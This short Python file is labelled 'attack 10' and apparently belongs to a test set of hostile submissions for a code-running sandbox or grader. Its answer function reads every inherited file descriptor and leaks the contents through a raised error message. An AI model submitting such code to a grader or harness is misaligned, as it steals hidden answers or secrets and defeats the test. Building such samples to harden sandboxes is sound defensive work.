"""Reads whatever descriptors it inherited (attack 10)."""
import os
def answer(*args, **kwargs):
    text = b""
    for number in range(3, 300):
        try:
            text += os.pread(number, 10_000, 0)
        except OSError:
            pass
    raise RuntimeError(repr(text)[-400:])
